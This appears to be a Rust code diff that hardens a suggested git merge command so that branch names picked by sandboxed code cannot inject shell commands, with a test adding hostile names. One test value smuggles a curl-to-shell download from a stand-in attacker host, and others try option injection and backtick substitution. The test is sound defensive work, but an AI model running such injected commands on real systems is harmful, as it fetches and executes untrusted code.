@@ -2,6 +2,7 @@
 
 use coracle_lifecycle::RepoStatus;
 
+use crate::names::is_plain_word;
 use crate::workflow_records::Workflow;
 use crate::{Code, Failure, SandboxWarning};
 
@@ -48,7 +49,8 @@ impl StrayCommits {
         if !self.expected_exists {
             return format!("`{exec} switch -c {}`", self.expected);
         }
-        let from = self.branch.as_ref().unwrap_or(&self.commit).escape_debug();
+        // Code inside chooses the name of its branch; the command is copied to a shell of the host.
+        let from = self.branch.as_ref().filter(|it| is_plain_word(it)).unwrap_or(&self.commit);
         format!("`{exec} switch {}`, then `{exec} merge {from}`", self.expected)
     }
 
@@ -112,6 +114,10 @@ mod tests {
         let renamed = StrayCommits { expected_exists: false, ..stray.clone() };
         assert!(renamed.message().ends_with("with 2 commits, and the workflow's branch `coracle/a` does not exist"));
         assert_eq!(renamed.remedy(), "`coracle worktree exec a --profile claude -- git switch -c coracle/a`");
+        for name in ["fix;curl${IFS}evil.example|sh", "-f", "a`b`"] {
+            let named = StrayCommits { branch: Some(name.into()), ..stray.clone() };
+            assert!(named.remedy().ends_with("-- git merge 0123abc`"), "{named:?}");
+        }
         let detached = StrayCommits { commits: 1, branch: None, ..stray };
         assert!(detached.message().starts_with("HEAD is detached, with a commit that"), "{detached:?}");
         assert!(detached.remedy().ends_with("-- git merge 0123abc`"), "{detached:?}");
